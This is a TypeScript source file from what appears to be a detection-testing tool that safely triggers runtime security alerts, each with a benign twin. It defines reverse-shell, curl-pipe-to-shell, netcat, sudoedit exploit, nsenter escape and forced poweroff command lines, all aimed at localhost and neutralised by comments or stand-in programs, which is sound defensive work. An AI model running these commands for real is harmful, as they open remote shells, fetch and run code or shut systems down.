import type { DrillAction, Need, RunOptions } from "../action.ts";
import { NOTHING_REMAINS, OWN_FOLDER, OWN_FOLDER_AND_CGROUP, STAND_IN, server, standIn } from "./phrases.ts";

/** An action that runs a harmless program under the name of another program. */
interface StandIn {
  readonly name: string;
  readonly rule: string;
  readonly also?: readonly string[];
  readonly does: string;
  readonly argv: readonly [program: string, ...args: string[]];
  readonly twin: readonly [does: string, program: string, ...args: string[]];
  readonly container?: "docker" | "host";
}

const NEEDS: Readonly<Record<"docker" | "host", readonly Need[]>> = {
  docker: ["root", "cgroup"],
  host: ["root", "cgroup", "host"],
};

function actionOf({ name, rule, also, does, argv, twin, container }: StandIn): DrillAction {
  const options: RunOptions = container === undefined ? {} : { container };
  const [program, ...args] = argv;
  const [twinDoes, twinProgram, ...twinArgs] = twin;
  return {
    name,
    rule,
    ...(also && { also }),
    does,
    harmless: STAND_IN,
    cleanUp: container === undefined ? OWN_FOLDER : OWN_FOLDER_AND_CGROUP,
    twin: twinDoes,
    needs: container === undefined ? [] : NEEDS[container],
    shows: { "proc.name": program, "proc.cmdline": [program, ...args].join(" ") },
    act: (stage) => standIn(stage, program, args, options),
    benign: (stage) => standIn(stage, twinProgram, twinArgs, options),
  };
}

const standIns: readonly StandIn[] = [
  {
    name: "miner",
    rule: "Cryptominer started",
    does: "Starts a program called xmrig.",
    argv: ["xmrig", "-o", "127.0.0.1:9"],
    twin: ["Starts a program called report with the same arguments.", "report", "-o", "127.0.0.1:9"],
  },
  {
    name: "decode-payload",
    rule: "Base64 payload decoded in container",
    does: "Starts a program called base64 with the option for decoding, in a container's cgroup.",
    argv: ["base64", "-d"],
    twin: ["Starts the program without the option.", "base64"],
    container: "docker",
  },
  {
    name: "netcat-host",
    rule: "Netcat or socat shell started on host",
    also: ["Network tool started on host"],
    does: "Starts a program called nc with the arguments of a reverse shell, outside containers.",
    argv: ["nc", "-e", "/bin/sh", "127.0.0.1", "9"],
    twin: ["Starts a program called notcat with the same arguments.", "notcat", "-e", "/bin/sh", "127.0.0.1", "9"],
    container: "host",
  },
  {
    name: "sudo-exploit",
    rule: "Exploit of sudo attempted",
    does: "Starts a program called sudoedit with a user ID of -1.",
    argv: ["sudoedit", "-u#-1", "/nothing"],
    twin: ["Starts a program called report with the same arguments.", "report", "-u#-1", "/nothing"],
  },
  {
    name: "namespace-tool",
    rule: "Namespace or mount tool started in container",
    does: "Starts a program called nsenter in a container's cgroup.",
    argv: ["nsenter", "-t", "1", "-a"],
    twin: ["Starts a program called report with the same arguments.", "report", "-t", "1", "-a"],
    container: "docker",
  },
  {
    name: "cluster-client",
    rule: "Cluster client started in container",
    does: "Starts a program called kubectl in a container's cgroup.",
    argv: ["kubectl", "version"],
    twin: ["Starts a program called report with the same arguments.", "report", "version"],
    container: "docker",
  },
  {
    name: "package-manager",
    rule: "Package manager started in container",
    does: "Starts a program called apk in a container's cgroup.",
    argv: ["apk", "info"],
    twin: ["Starts a program called report with the same arguments.", "report", "info"],
    container: "docker",
  },
  {
    name: "list-jobs",
    rule: "Scheduled jobs listed",
    does: "Starts a program called crontab with the option for listing the table.",
    argv: ["crontab", "-l"],
    twin: ["Starts a program called report with the same option.", "report", "-l"],
  },
  {
    name: "power-off",
    rule: "System shutdown or reboot requested",
    does: "Starts a program called poweroff.",
    argv: ["poweroff", "-f"],
    twin: ["Starts the program with the option for writing only a log record.", "poweroff", "-w"],
  },
];

/** Actions that use techniques of known attacks. */
export const threats: readonly DrillAction[] = [
  ...standIns.map(actionOf),
  {
    name: "decoded-shell",
    rule: "Decoded payload piped to shell",
    does: "Starts a shell with a command that pipes a download to a shell, after a comment character.",
    harmless: "The shell ignores the comment.",
    cleanUp: "No files or processes remain.",
    twin: "Starts the shell with a comment that pipes to sort.",
    needs: [],
    shows: { "proc.name": "sh", "proc.cmdline": "sh -c : # curl -s 127.0.0.1:9 | sh" },
    act: (stage) => stage.run(["sh", "-c", ": # curl -s 127.0.0.1:9 | sh"]),
    benign: (stage) => stage.run(["sh", "-c", ": # curl -s 127.0.0.1:9 | sort"]),
  },
  {
    name: "reverse-shell",
    rule: "Reverse shell command started",
    does: "Starts a shell with the command of a reverse shell, after a comment character.",
    harmless: "The shell ignores the comment.",
    cleanUp: "No files or processes remain.",
    twin: "Starts the shell with a comment that redirects to a file.",
    needs: [],
    shows: { "proc.name": "sh", "proc.cmdline": "sh -c : # sh -i >& /dev/tcp/127.0.0.1/9 0>&1" },
    act: (stage) => stage.run(["sh", "-c", ": # sh -i >& /dev/tcp/127.0.0.1/9 0>&1"]),
    benign: (stage) => stage.run(["sh", "-c", ": # sh -i >& /dev/null 0>&1"]),
  },
  {
    name: "server-ssh",
    rule: "SSH client started below server",
    also: ["Suspicious program spawned by web server"],
    does: "Starts a program called ssh as a child process of a program called nginx.",
    harmless: `${STAND_IN} The program called nginx is a link to a shell.`,
    cleanUp: OWN_FOLDER,
    twin: "Starts the same program as a child process of a program called nightly-report.",
    needs: ["shell"],
    shows: { "proc.name": "ssh", "proc.pname": "nginx" },
    act: (stage) => server(stage, "nginx", `${stage.alias("ssh", "/bin/true")} 127.0.0.1`),
    benign: (stage) => server(stage, "nightly-report", `${stage.alias("ssh", "/bin/true")} 127.0.0.1`),
  },
  {
    name: "server-download",
    rule: "Suspicious program spawned by web server",
    does: "Starts a program called ftp as a child process of a program called nginx.",
    harmless: `${STAND_IN} The program called nginx is a link to a shell.`,
    cleanUp: OWN_FOLDER,
    twin: "Starts the same program as a child process of a program called nightly-report.",
    needs: ["shell"],
    shows: { "proc.name": "ftp", "proc.pname": "nginx" },
    act: (stage) => server(stage, "nginx", `${stage.alias("ftp", "/bin/true")} 127.0.0.1`),
    benign: (stage) => server(stage, "nightly-report", `${stage.alias("ftp", "/bin/true")} 127.0.0.1`),
  },
  {
    name: "root-request",
    rule: "Root user ID requested by unprivileged process",
    does: "A program called loader, running as a service account, calls setuid(0).",
    harmless: "The program is a link to Node.js, and the kernel rejects the call.",
    cleanUp: OWN_FOLDER,
    twin: "The program calls setuid with its current user ID.",
    needs: ["root"],
    shows: { "proc.name": "loader" },
    act: (stage) => stage.call("setuid", ["0"], { as: "loader", uid: stage.serviceUser.uid }),
    benign: (stage) => stage.call("setuid", [`${stage.serviceUser.uid}`], { as: "loader", uid: stage.serviceUser.uid }),
  },
  {
    name: "reboot-call",
    rule: "System shutdown or reboot requested",
    does: "Calls reboot without the magic numbers that the kernel requires.",
    harmless: "The kernel rejects the call.",
    cleanUp: NOTHING_REMAINS,
    twin: "Calls getppid.",
    needs: [],
    shows: { "evt.type": "reboot", "proc.cmdline": "*call.* reboot" },
    act: (stage) => stage.call("reboot", []),
    benign: (stage) => stage.call("getppid", []),
  },
];
